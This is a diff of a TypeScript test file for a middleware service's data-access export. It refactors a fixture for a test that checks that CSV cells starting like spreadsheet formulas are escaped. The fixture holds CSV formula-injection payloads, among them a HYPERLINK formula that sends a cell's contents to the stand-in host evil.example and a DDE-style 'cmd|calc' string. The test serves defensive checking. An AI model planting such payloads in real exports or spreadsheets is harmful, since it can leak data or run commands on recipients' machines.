@@ -10,7 +10,7 @@ import { ConfigError, loadConfig } from '../../middleware/src/config.js';
 import { startService, type RunningService } from '../../middleware/src/service.js';
 import { AppAuthenticator } from '../../middleware/src/http/app-auth.js';
 import { consentModule } from '../../middleware/src/consent/consent-module.js';
-import { buildExportArchive, type AccessExportData } from '../../middleware/src/requests/access-export.js';
+import { emptyAccessExport, buildExportArchive, type AccessExportData } from '../../middleware/src/requests/access-export.js';
 import { createTestDatabase, type TestDatabase } from '../helpers/test-database.js';
 import { capturedLogger } from '../helpers/captured-logger.js';
 import { testConfig, testEnvironment } from '../helpers/test-config.js';
@@ -150,22 +150,9 @@ describe('access-export CSV (C22, C29)', () => {
   it('C22 when exported text starts like a spreadsheet formula, then the CSV cell is prefixed with a quote and export.json keeps the exact text', async () => {
     const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '+1+cmd|calc', '-2+3', '@SUM(A1:A9)', '\tlead', '\rlead'];
     const data: AccessExportData = {
-      generatedAt: '2026-11-20T10:00:00.000Z',
-      requestId: 'req-1',
+      ...emptyAccessExport('req-1', new Date('2026-11-20T10:00:00.000Z')),
       profile: [{ name: hostile[1]!, phone: '+1 555 0100', note: 'plain' }],
-      identities: [],
-      tickets: [],
       comments: hostile.map((body, i) => ({ id: String(i), body })),
-      livechat_customers: [],
-      chats: [],
-      chat_messages: [],
-      talkdesk_contacts: [],
-      calls: [],
-      recordings: [],
-      consent_history: [],
-      requests: [],
-      processors: [],
-      notes: [],
     };
     const files = unzip(await buildExportArchive(data));
     const comments = files.get('comments.csv')!;
